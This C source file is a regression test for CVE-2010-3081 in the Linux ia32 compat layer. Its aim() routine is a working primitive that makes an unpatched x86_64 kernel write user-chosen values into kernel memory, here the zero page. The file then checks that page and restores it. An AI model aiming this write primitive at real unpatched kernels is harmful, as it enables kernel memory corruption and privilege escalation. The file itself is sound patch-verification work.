/*
 * c3081.c - CVE-2010-3081 reproducer and regression tests; built 32-bit
 * only (c3081-32): the bug lives in the ia32 emulation layer of an x86_64
 * kernel.  init runs it in every boot (guest/fixes.h: "c3081-32 <first>",
 * TAP numbered from <first>, exactly C3081_TESTS results, names prefixed
 * "CVE-2010-3081 "), after the harmless tests and before CVE-2010-0307's
 * reproducer.  Research and measurements: docs/cve-2010-3081.md.
 *
 * The bug: compat_alloc_user_space(len) returned "user stack pointer - len"
 * with no check that the result is still user space.  A 32-bit task's
 * stack pointer is a 32-bit number it chooses; with len larger than it the
 * subtraction wraps into the top of the 64-bit address space, where the
 * kernel image lives.  A caller that then writes through the pointer with
 * __put_user() (no access_ok()) writes where the task pointed it.  On the
 * kit's kernels the caller that does so with a user-sized length is
 * compat_mc_getsockopt() (getsockopt(SOL_IP, MCAST_MSFILTER) from a 32-bit
 * task; CONFIG_INET): it stores gf_interface, gf_fmode and gf_numsrc, the
 * caller's own values, at kgf+0, +136 and +140 before a checked copy fails.
 * A kernel without CONFIG_NET/CONFIG_INET has no such caller: the test
 * SKIPs its cve-state check with the reason (the fix is NOT-TESTED there).
 *
 * The state check, decided without a timeout: aim kgf at the kernel's
 * empty_zero_page (first page of the kernel's bss: /proc/iomem "Kernel bss",
 * mapped at __START_KERNEL_map + physical), then read the zero page back
 * through /proc/self/mem at an untouched anonymous page (the kernel hands
 * out ZERO_PAGE for those: FOLL_ANON before 2.6.32, the zero pfn on
 * 2.6.32).  Unpatched, our three markers are there: the kernel wrote
 * user-chosen data at a kernel address.  Fixed (c41d68a513c7: the generic
 * compat_alloc_user_space() refuses the area, the caller gets NULL and
 * faults on page 0), the zero page stays zero and the call fails.  When
 * the markers are seen, the same call writes zeros back at once, and the
 * last test (cleanup:) checks the zero page is zero again: the tests that
 * run after this program in the same boot see the kernel as it was.
 *
 * Regression tests: the same compat paths with a sane stack and length
 * (MCAST_JOIN_GROUP, MCAST_MSFILTER; timer_create; vmsplice) work.
 *
 * Run with no argument (by hand, or as PID 1 with rdinit=/bin/c3081-32) it
 * prints a whole TAP stream numbered from 1; as PID 1 it mounts /proc
 * first and reboots at the end.
 */
#include "kit.h"
#include "fixes.h"

KIT_ENTRY(kit_start);

#if KIT_BITS != 32
#error "c3081.c is built -m32 only: it exercises the ia32 compat layer"
#endif

enum {
	NR_munmap = 91, NR_socketcall = 102, NR_pread64 = 180, NR_mmap2 = 192,
	NR_timer_create = 259, NR_timer_delete = 263, NR_vmsplice = 316,
};
#define SYS_SOCKET	1
#define SYS_SETSOCKOPT	14
#define SYS_GETSOCKOPT	15
#define AF_INET		2
#define SOCK_DGRAM	2
#define SOL_IP		0
#define MCAST_JOIN_GROUP 42
#define MCAST_MSFILTER	48
#define PROT_READ	1
#define PROT_WRITE	2
#define MAP_PRIVATE	0x02
#define MAP_FIXED	0x10
#define MAP_ANONYMOUS	0x20
#define KIT_ENOSYS	38
#define KIT_EAFNOSUPPORT 97

/* x86_64: where the kernel image is mapped (__START_KERNEL_map) */
#define KERNEL_MAP	0xffffffff80000000ULL
/* the stack the exploit call runs on: low, so that len > sp is reachable */
#define LOW_PAGE	0x00100000UL
/* offsets the unpatched kernel writes at: struct group_filter, x86_64 */
#define OFF_IFACE	0
#define OFF_FMODE	136
#define OFF_NUMSRC	140
#define GF0_SIZE	144	/* GROUP_FILTER_SIZE(0) on x86_64 */

/* the compat (i386) layouts: 4-byte aligned, no padding */
struct c_sockaddr_storage { unsigned char b[128]; };
struct c_group_req { unsigned int gr_interface; struct c_sockaddr_storage gr_group; };
struct c_group_filter {
	unsigned int gf_interface;
	struct c_sockaddr_storage gf_group;
	unsigned int gf_fmode, gf_numsrc;
	struct c_sockaddr_storage gf_slist[1];
};
struct c_iovec { unsigned int base, len; };
struct c_sigevent { int sigval, signo, notify, pad[13]; };	/* 64 bytes */

#define FIX	"CVE-2010-3081 "	/* every test name starts with the fix */

static int ntest;	/* results printed */
static int first = 1;	/* the number of the first (init says, argv[1]) */
static int nfail, nskip;

/* "N<sep>CVE-2010-3081 <name>" */
static void num_name(struct line *l, const char *sep, const char *name)
{
	l_u(l, (ulong)(first + ntest));
	l_s(l, sep);
	l_s(l, FIX);
	l_s(l, name);
}

/* "KIT: run N <name>" before a test: a crash in it names it (parse.c) */
static void begin(const char *name)
{
	struct line l; l.n = 0;

	l_s(&l, "KIT: run ");
	num_name(&l, " ", name);
	l_nl(&l, 1);
}

/* a result; the diagnostic of a failure on the next line, "# why" */
static void tap(int ok, const char *name, const char *diag)
{
	struct line l; l.n = 0;

	l_s(&l, ok ? "ok " : "not ok ");
	num_name(&l, " - ", name);
	ntest++;
	l_nl(&l, 1);
	if (!ok) {
		nfail++;
		l_s(&l, "# ");
		l_s(&l, diag);
		l_nl(&l, 1);
	}
}

static void skip(const char *name, const char *why)
{
	struct line l; l.n = 0;

	l_s(&l, "ok ");
	num_name(&l, " - ", name);
	l_s(&l, " # SKIP ");
	l_s(&l, why);
	ntest++;
	nskip++;
	l_nl(&l, 1);
}

static void note(const char *k, unsigned long long v, const char *k2, long v2)
{
	struct line l; l.n = 0;

	l_s(&l, "# c3081 ");
	l_s(&l, k);
	l_c(&l, '=');
	l_x(&l, v);
	if (k2) {
		l_c(&l, ' ');
		l_s(&l, k2);
		l_c(&l, '=');
		l_d(&l, v2);
	}
	l_nl(&l, 1);
}

static long socketcall(int call, unsigned int *args)
{
	return sc2(NR_socketcall, call, args);
}

/* socketcall(call, args) entered with %esp = sp (sys.h) */
static long socketcall_on(int call, unsigned int *args, ulong sp)
{
	return sc2_on_stack(NR_socketcall, call, (long)args, sp);
}

static void group_224_0_0_251(struct c_sockaddr_storage *ss)
{
	kit_memset(ss, 0, sizeof(*ss));
	ss->b[0] = AF_INET;	/* sin_family, little endian */
	ss->b[4] = 224;		/* sin_addr 224.0.0.251, network order */
	ss->b[7] = 251;
}

static unsigned int rd32(const unsigned char *p)
{
	return p[0] | (unsigned)p[1] << 8 | (unsigned)p[2] << 16 | (unsigned)p[3] << 24;
}

/* physical start of "Kernel bss" from /proc/iomem, rounded up to a page; 0 if absent */
static unsigned long long kernel_bss(void)
{
	static char buf[8192];
	long n = 0, r, fd = sys_open("/proc/iomem", O_RDONLY, 0);
	const char *p;
	unsigned long long v = 0;

	if (fd < 0)
		return 0;
	while (n < (long)sizeof(buf) - 1 && (r = sys_read((int)fd, buf + n, sizeof(buf) - 1 - (ulong)n)) > 0)
		n += r;
	sys_close((int)fd);
	buf[n] = 0;
	p = kit_memstr(buf, (ulong)n, " : Kernel bss");
	if (!p)
		return 0;
	while (p > buf && p[-1] != '\n')
		p--;
	while (*p == ' ')
		p++;
	for (;; p++) {
		int d;

		if (*p >= '0' && *p <= '9')
			d = *p - '0';
		else if (*p >= 'a' && *p <= 'f')
			d = *p - 'a' + 10;
		else
			break;
		v = v * 16 + (unsigned)d;
	}
	return (v + 4095) & ~4095ULL;
}

/* the first GF0_SIZE bytes of the zero page, read at an untouched anonymous page */
static long zero_page(ulong anon, unsigned char *out)
{
	long fd = sys_open("/proc/self/mem", O_RDONLY, 0), r;

	if (fd < 0)
		return fd;
	r = sc5(NR_pread64, fd, out, GF0_SIZE, anon, 0);
	sys_close((int)fd);
	return r == GF0_SIZE ? 0 : (r < 0 ? r : -1);
}

/*
 * getsockopt(SOL_IP, MCAST_MSFILTER) on a stack pointer of LOW_PAGE's top
 * with a length chosen so that the unpatched compat_alloc_user_space()
 * returns `target`: kgf = sp - (ulen + 4 + 4) (the pad, then the room
 * for the earlier optlen allocation).  An unpatched kernel writes three
 * words there: marker, marker ^ 0x01010101, marker ^ 0x02020202 (marker 0:
 * three zeros, which puts the zero page back).
 */
static long aim(int fd, unsigned long long target, unsigned int marker)
{
	static struct c_group_filter gf;
	static unsigned int args[5];
	unsigned int *optlen = (unsigned int *)(LOW_PAGE + 64);
	ulong sp = LOW_PAGE + 4096;

	gf.gf_interface = marker;
	gf.gf_fmode = marker ? marker ^ 0x01010101 : 0;
	gf.gf_numsrc = marker ? marker ^ 0x02020202 : 0;
	group_224_0_0_251(&gf.gf_group);
	*optlen = (unsigned int)((unsigned long long)sp - 8 - target);
	args[0] = (unsigned)fd; args[1] = SOL_IP; args[2] = MCAST_MSFILTER;
	args[3] = (unsigned)(ulong)&gf; args[4] = (unsigned)(ulong)optlen;
	return socketcall_on(SYS_GETSOCKOPT, args, sp);
}

/* the test names, in the order they print (C3081_TESTS of them) */
static const char T_TIMER[] = "regress: compat timer_create with a sigevent succeeds";
static const char T_VMSPLICE[] = "regress: compat vmsplice of two iovecs into a pipe";
static const char T_JOIN[] = "regress: compat setsockopt MCAST_JOIN_GROUP (224.0.0.251 on lo) succeeds";
static const char T_MSFILTER[] = "regress: compat getsockopt MCAST_MSFILTER with a sane length "
	"returns the joined group's filter (exclude, no sources)";
static const char T_PRECOND[] = "precond: the kernel's bss is named, a low stack page maps "
	"and the zero page reads back as zeros";
static const char T_STATE[] = "cve-state: the kernel did not write the caller's values at the "
	"kernel address compat_alloc_user_space() computed";
static const char T_FAILS[] = "regress: the oversized call fails (it never succeeds)";
static const char T_CLEANUP[] = "cleanup: the kernel's zero page reads back as zeros at the end";

static void regress_mcast(int fd)
{
	static struct c_group_req gr;
	static struct c_group_filter gf;
	static unsigned int args[5];
	unsigned int optlen = sizeof(gf);
	long r;

	begin(T_JOIN);
	gr.gr_interface = 1;	/* lo */
	group_224_0_0_251(&gr.gr_group);
	args[0] = (unsigned)fd; args[1] = SOL_IP; args[2] = MCAST_JOIN_GROUP;
	args[3] = (unsigned)(ulong)&gr; args[4] = sizeof(gr);
	r = socketcall(SYS_SETSOCKOPT, args);
	tap(r == 0, T_JOIN, "setsockopt failed");
	if (r)
		note("join_err", 0, "r", r);

	begin(T_MSFILTER);
	gf.gf_interface = 1;
	group_224_0_0_251(&gf.gf_group);
	gf.gf_fmode = 7;
	gf.gf_numsrc = 7;
	args[2] = MCAST_MSFILTER;
	args[3] = (unsigned)(ulong)&gf; args[4] = (unsigned)(ulong)&optlen;
	r = socketcall(SYS_GETSOCKOPT, args);
	tap(r == 0 && gf.gf_fmode == 0 /* MCAST_EXCLUDE */ && gf.gf_numsrc == 0 &&
	    optlen == 4 + 128 + 4 + 4, T_MSFILTER,
	    r ? "getsockopt failed" : "wrong filter or length returned");
	if (r)
		note("msfilter_err", 0, "r", r);
}

static void regress_timer(void)
{
	static struct c_sigevent ev;
	int id = -1;
	long r;

	begin(T_TIMER);
	ev.notify = 1;	/* SIGEV_NONE */
	r = sc3(NR_timer_create, 1 /* CLOCK_MONOTONIC */, &ev, &id);
	if (r == -KIT_ENOSYS) {	/* 6.1's tinyconfig: no CONFIG_POSIX_TIMERS */
		skip(T_TIMER, "no timer_create (ENOSYS)");
		return;
	}
	tap(r == 0 && id >= 0, T_TIMER, "timer_create failed");
	if (r == 0)
		sc1(NR_timer_delete, id);
	else
		note("timer_err", 0, "r", r);
}

static void regress_vmsplice(void)
{
	static char a[] = "kit-", b[] = "vmsplice";
	static struct c_iovec iov[2];
	char got[16];
	int p[2];
	long r, n = 0, k;

	begin(T_VMSPLICE);
	if (sys_pipe(p)) {
		tap(0, T_VMSPLICE, "pipe failed");
		return;
	}
	iov[0].base = (unsigned)(ulong)a; iov[0].len = 4;
	iov[1].base = (unsigned)(ulong)b; iov[1].len = 8;
	r = sc4(NR_vmsplice, p[1], iov, 2, 0);
	while (r == 12 && n < 12 && (k = sys_read(p[0], got + n, (ulong)(12 - n))) > 0)
		n += k;
	tap(r == 12 && n == 12 && kit_memstr(got, 12, "kit-vmsplice") == got, T_VMSPLICE,
	    r == 12 ? "the pipe did not hold the two iovecs' bytes" : "vmsplice failed");
	if (r != 12)
		note("vmsplice_err", 0, "r", r);
	sys_close(p[0]);
	sys_close(p[1]);
}

static int changed(const unsigned char *z)
{
	return rd32(z + OFF_IFACE) || rd32(z + OFF_FMODE) || rd32(z + OFF_NUMSRC);
}

static int all_zero(const unsigned char *z)
{
	int i, zero = 1;

	for (i = 0; i < GF0_SIZE; i++)
		zero &= !z[i];
	return zero;
}

/* tests T_PRECOND .. T_CLEANUP, with an IPv4 socket */
static void cve(int fd)
{
	unsigned long long bss = kernel_bss(), target = KERNEL_MAP + bss;
	unsigned char z[GF0_SIZE];
	long anon, low, r, zr = -1;
	const char *why = 0;

	begin(T_PRECOND);
	note("target", target, 0, 0);
	anon = sc5(NR_mmap2, 0, 4096, PROT_READ, MAP_PRIVATE | MAP_ANONYMOUS, -1);
	low = sc5(NR_mmap2, LOW_PAGE, 4096, PROT_READ | PROT_WRITE,
		  MAP_PRIVATE | MAP_ANONYMOUS | MAP_FIXED, -1);
	if (!bss)
		why = "/proc/iomem has no 'Kernel bss' line";
	else if (low != (long)LOW_PAGE)
		why = "mmap at 0x100000 failed";
	else if (anon < 0 && anon > -4096)
		why = "anonymous mmap failed";
	else if ((zr = zero_page((ulong)anon, z)) != 0)
		why = "/proc/self/mem read failed";
	else if (!all_zero(z))
		why = "zero page not zero";
	tap(!why, T_PRECOND, why);
	if (why) {
		skip(T_STATE, "precondition failed");
		skip(T_FAILS, "precondition failed");
		skip(T_CLEANUP, "precondition failed");
		return;
	}

	begin(T_STATE);
	r = aim(fd, target, 0x4b495433 /* "3TIK" */);
	zr = zero_page((ulong)anon, z);
	tap(!zr && !changed(z), T_STATE,
	    zr ? "/proc/self/mem read failed" : "zero page holds our markers: kernel memory written");
	note("aimed_call", (unsigned long long)target, "r", r);
	if (!zr && changed(z)) {
		note("zero_page_iface", rd32(z + OFF_IFACE), 0, 0);
		note("zero_page_fmode", rd32(z + OFF_FMODE), 0, 0);
		/* the same write with zeros puts the zero page back */
		aim(fd, target, 0);
	}
	/* EFAULT on 2.6, fixed or not; 6.1 copies the filter into a kernel
	 * buffer first and says EADDRNOTAVAIL */
	begin(T_FAILS);
	tap(r < 0, T_FAILS, "it succeeded");

	begin(T_CLEANUP);
	zr = zero_page((ulong)anon, z);
	tap(!zr && all_zero(z), T_CLEANUP,
	    zr ? "/proc/self/mem read failed" : "the zero page is not zero: kernel memory left written");
}

/* why the kernel has no path to the bug: socket(AF_INET) refused */
static const char *no_path(long err)
{
	if (err == -KIT_ENOSYS)
		return "socketcall ENOSYS: kernel built without CONFIG_NET";
	if (err == -KIT_EAFNOSUPPORT)
		return "socket(AF_INET) EAFNOSUPPORT: kernel built without CONFIG_INET";
	return 0;
}

/* "c3081-32 [first]": sp[0] is argc, sp[1..] argv */
__attribute__((used)) void kit_start(long *sp)
{
	long fd;
	unsigned int args[3] = { AF_INET, SOCK_DGRAM, 0 };
	struct line l; l.n = 0;
	int pid1 = sys_getpid() == 1, whole = 1;
	const char *why;

	if (sp[0] >= 2) {
		const char *a = (const char *)sp[2];

		for (first = 0; *a >= '0' && *a <= '9'; a++)
			first = first * 10 + (*a - '0');
		whole = 0;	/* part of init's stream: no header, no plan */
	}
	if (pid1) {
		sys_mkdir("/proc", 0755);
		sys_mount("proc", "/proc", "proc", 0, 0);
	}
	if (whole) {
		l_s(&l, "TAP version 13\n1..");
		l_u(&l, C3081_TESTS);
		l_nl(&l, 1);
	}
	regress_timer();
	regress_vmsplice();
	fd = socketcall(SYS_SOCKET, args);
	if (fd < 0) {
		note("socket_err", 0, "r", fd);
		why = no_path(fd);
		if (why) {
			skip(T_JOIN, why);
			skip(T_MSFILTER, why);
			skip(T_PRECOND, why);
			skip(T_STATE, why);
			skip(T_FAILS, why);
			skip(T_CLEANUP, why);
		} else {
			begin(T_JOIN);
			tap(0, T_JOIN, "socket(AF_INET, SOCK_DGRAM) failed");
			begin(T_MSFILTER);
			tap(0, T_MSFILTER, "socket(AF_INET, SOCK_DGRAM) failed");
			begin(T_PRECOND);
			tap(0, T_PRECOND, "socket(AF_INET, SOCK_DGRAM) failed");
			skip(T_STATE, "precondition failed");
			skip(T_FAILS, "precondition failed");
			skip(T_CLEANUP, "precondition failed");
		}
	} else {
		regress_mcast((int)fd);
		cve((int)fd);
	}
	l_s(&l, "# c3081 done failed=");
	l_u(&l, (ulong)nfail);
	l_s(&l, " skipped=");
	l_u(&l, (ulong)nskip);
	if (ntest != C3081_TESTS) {	/* a bug here: parse.c sees the count */
		l_s(&l, " results=");
		l_u(&l, (ulong)ntest);
		l_s(&l, " (planned ");
		l_u(&l, C3081_TESTS);
		l_s(&l, ")");
	}
	l_nl(&l, 1);
	if (pid1)
		sys_reboot(0x01234567);	/* LINUX_REBOOT_CMD_RESTART: -no-reboot ends QEMU */
	/* init counts every test of the boot from this (guest/fixes.h) */
	sys_exit(whole ? !!nfail : 16 * nfail + nskip);
}
